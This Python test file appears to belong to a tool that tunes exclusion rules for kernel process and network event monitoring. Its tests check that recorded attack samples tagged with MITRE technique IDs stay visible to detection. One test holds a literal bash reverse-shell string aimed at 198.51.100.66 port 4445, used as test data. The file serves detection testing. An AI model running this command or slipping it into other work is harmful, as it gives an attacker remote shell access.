from __future__ import annotations

import bisect
from collections import defaultdict
from pathlib import Path
from typing import Any

import numpy as np
import orjson
import re2

from tetratui.core.events.kinds import KIND_OF_KEY, Kind
from tetratui.core.exclusion import Exclusion, Pattern, SocketMatch
from tetratui.core.noise.commands import Commands
from tetratui.core.table import EventTable, build_table
from tetratui.core.tuning.safety.attack_samples import example, in_context, recorded
from tetratui.core.tuning.scopes.scopes import build_scopes
from tetratui.core.tuning.tuning_context import TuningContext

LIST = Path(__file__).parents[3] / "data" / "attack_samples.tsv"
BASE = (Kind.EXEC, Kind.EXIT)


def test_the_recorded_samples_are_broad_and_each_says_what_it_is() -> None:
    samples = recorded()
    assert len(samples) >= 60
    assert len({sample.tactic for sample in samples}) >= 10
    assert len({sample.name for sample in samples}) == len(samples)
    for sample in samples:
        assert re2.fullmatch(r"T[0-9]{4}(\.[0-9]{3})?", sample.technique)
        assert sample.sentence[0].isupper() or sample.sentence.split()[0].islower()
        assert next(iter(orjson.loads(sample.line))) in KIND_OF_KEY


def body_of(event: dict[str, Any]) -> dict[str, Any]:
    body: dict[str, Any] = event[next(iter(event))]
    return body


def test_the_list_names_the_whole_process_tree_of_each_announced_command(capture: EventTable) -> None:
    """Each tree is followed by exec_id from the announcing script's child to the last exit."""
    bodies = [body_of(capture.json(row)) for row in range(capture.first, capture.stop)]
    announced = [
        (process["arguments"].removeprefix("NEEDLE "), process)
        for body, kind in zip(bodies, capture.kind.tolist(), strict=True)
        if kind == Kind.EXEC
        and (process := body["process"])["binary"] == "/bin/echo"
        and process.get("arguments", "").startswith("NEEDLE ")
    ]
    listed = dict(line.split("\t")[::2] for line in LIST.read_text().splitlines() if not line.startswith("#"))
    trees = _trees(bodies, [process for _, process in announced])
    for number, (name, _) in enumerate(announced):
        if name != "END":
            assert listed[name] == ",".join(map(str, trees[number])), name


def _trees(bodies: list[dict[str, Any]], announced: list[dict[str, Any]]) -> dict[int, list[int]]:
    script = announced[0]["parent_exec_id"]
    above: dict[str, dict[str, Any]] = {}
    for body in bodies:
        for block in (body.get("process"), body.get("parent")):
            if block and "exec_id" in block:
                above.setdefault(block["exec_id"], block)
    starts = [process["start_time"] for process in announced]
    trees = defaultdict(list)
    for row, body in enumerate(bodies):
        block = body.get("process", {})
        while block and block.get("parent_exec_id") not in {script, block.get("exec_id"), None}:
            block = above.get(block["parent_exec_id"], {})
        number = bisect.bisect_right(starts, block["start_time"]) - 1 if block.get("parent_exec_id") == script else -1
        if number >= 0 and block["exec_id"] != announced[number]["exec_id"]:
            trees[number].append(row)
    return trees


def test_under_a_subtree_nearly_every_attack_sample_is_hidden_in_context() -> None:
    subtree = Exclusion(BASE, parent_binary=(Pattern.exactly("/opt/x/run.sh"),))
    found = in_context([subtree])
    execs = [sample for sample in recorded() if b'"process_kprobe"' not in sample.line]
    assert found.tried == len(recorded())
    assert len(found.hidden) == len(execs)


def test_an_exact_exclusion_hides_no_attack_sample_in_context() -> None:
    exact = Exclusion(BASE, binary=(Pattern.exactly("/usr/bin/dpkg"),), arguments=(Pattern.exactly("-s adduser"),))
    assert in_context([exact]).hidden == ()


def test_an_example_of_a_template_matches_it(capture: EventTable, context: TuningContext) -> None:
    commands: Commands = context.commands
    seen = {(event.binary or "", event.arguments or "") for event in map(capture.event, range(0, 21300, 7))}
    for binary, arguments in seen:
        pattern = commands.template(binary, arguments)
        assert re2.search(pattern.to_re2(), example(pattern))


REVERSE = '-c "bash -i >& /dev/tcp/198.51.100.66/4445 0>&1"'


def test_the_connection_of_an_attack_sample_is_protected_like_its_exec(lines: Any) -> None:
    connect = lines.connect("198.51.100.66", 4445, binary="/usr/bin/bash", arguments=REVERSE)
    context = TuningContext(build_table([connect]))
    for name in ("exact", "command", "template", "caller", "destination", "network", "policy"):
        exclusions = context.build(name, np.arange(1))
        refused = context.shield.refuses(exclusions)
        # Under the parent of this event no sample was recorded; the command alone is one.
        assert (refused is not None) == (name not in {"exact", "caller"}), name
    assert build_scopes(context, [0]).default is None


def test_connections_of_everyday_commands_to_other_networks_may_be_hidden(lines: Any) -> None:
    health = lines.connect("10.1.2.3", 8080, binary="/usr/bin/curl", arguments="-s http://10.1.2.3:8080/health")
    context = TuningContext(build_table([health]))
    assert build_scopes(context, [0]).default == "destination"
    pattern = (Pattern.exactly("/usr/bin/curl"),)
    inside = Exclusion((Kind.KPROBE,), pattern, socket=SocketMatch(("10.0.0.0/8",)))
    # One sample names no address: where its hooks would connect is not known.
    assert {sample.name for sample in context.shield.hidden([inside])} <= {
        "secret-arg",
        "private-connect",
        "metadata",
    }
    assert context.shield.hidden([Exclusion((Kind.KPROBE,), pattern)])
